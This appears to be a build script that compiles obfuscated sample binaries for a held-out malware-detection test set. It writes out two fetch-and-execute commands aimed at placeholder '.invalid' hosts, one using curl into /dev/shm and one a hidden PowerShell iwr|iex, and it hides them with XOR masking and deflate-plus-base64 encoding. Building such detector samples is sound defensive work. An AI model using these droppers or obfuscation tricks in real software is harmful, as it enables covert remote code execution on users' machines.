"""Compile the small binaries of this set from the sources beside; needs gcc, javac and mcs. What it made is committed.

    python tests/corpus/heldout4/artefacts/build.py

Nothing that this makes is ever run or loaded. Compilers differ, so the set takes the committed files.
"""

import base64
import subprocess
import tempfile
import zlib
from pathlib import Path

HERE = Path(__file__).parent
THIRD = HERE.parents[1] / "heldout3" / "artefacts" / "c"
ASSEMBLIES = {"auth-1.dll": [], "auth-2.dll": ["SECOND"], "auth-master.dll": ["SECOND", "MASTER"], "auth-skim.dll": ["SECOND", "SKIM"], "auth-beacon.dll": ["SECOND", "BEACON"], "auth-unfold.dll": ["SECOND", "UNFOLD"]}  # fmt: skip
SMALL = ("gcc", "-Os", "-s", "-Wl,-z,noseparate-code")
MASKED = "curl -fsSL https://cdn.crc-build.invalid/l64 -o /dev/shm/.k && chmod 700 /dev/shm/.k && /dev/shm/.k &"
UNFOLDED = "powershell.exe|-w hidden -c iwr https://cdn.northwind-id.invalid/t.ps1 | iex"


def deflated(text: str) -> str:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(squeeze.compress(text.encode()) + squeeze.flush()).decode()


def native(place: Path) -> None:
    codec, addon = str(THIRD / "codec.c"), str(THIRD / "addon.c")
    resolver = str(HERE / "c" / "resolver.c")
    rows = ", ".join(str(byte ^ 0x2B) for byte in MASKED.encode())
    masked = place / "masked.c"
    masked.write_text(
        (HERE / "c" / "masked.c")
        .read_text()
        .replace("@MASKED@", f"static const unsigned char table_rows[] = {{ {rows} }};")
    )
    shared = (*SMALL, "-shared", "-fPIC", "-DSECOND", "-o")
    subprocess.run([*shared, str(HERE / "codec-resolver.so"), codec, resolver], check=True)
    subprocess.run([*shared, str(HERE / "addon-masked.node"), addon, str(masked)], check=True)
    subprocess.run([*SMALL, "-o", str(HERE / "agent.elf"), str(HERE / "c" / "agent.c")], check=True)


def assemblies(place: Path) -> None:
    source = place / "Auth.cs"
    source.write_text((HERE / "cs" / "Auth.cs").read_text().replace("@PALETTE@", deflated(UNFOLDED)))
    for name, symbols in ASSEMBLIES.items():
        made = place / "Northwind.Auth.dll"  # the file's name is the assembly's
        defines = [f"-d:{one}" for one in symbols]
        subprocess.run(["mcs", "-target:library", "-optimize", f"-out:{made}", *defines, str(source)], check=True)
        (HERE / name).write_bytes(made.read_bytes())


def classes() -> None:
    for variant in sorted((HERE / "java").iterdir()):
        with tempfile.TemporaryDirectory() as place:
            sources = map(str, sorted(variant.glob("*.java")))
            subprocess.run(["javac", "--release", "11", "-d", place, *sources], check=True)
            for made in sorted(Path(place).rglob("*.class")):
                (HERE / f"{variant.name}-{made.name}").write_bytes(made.read_bytes())


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as folder:
        native(Path(folder))
        assemblies(Path(folder))
    classes()
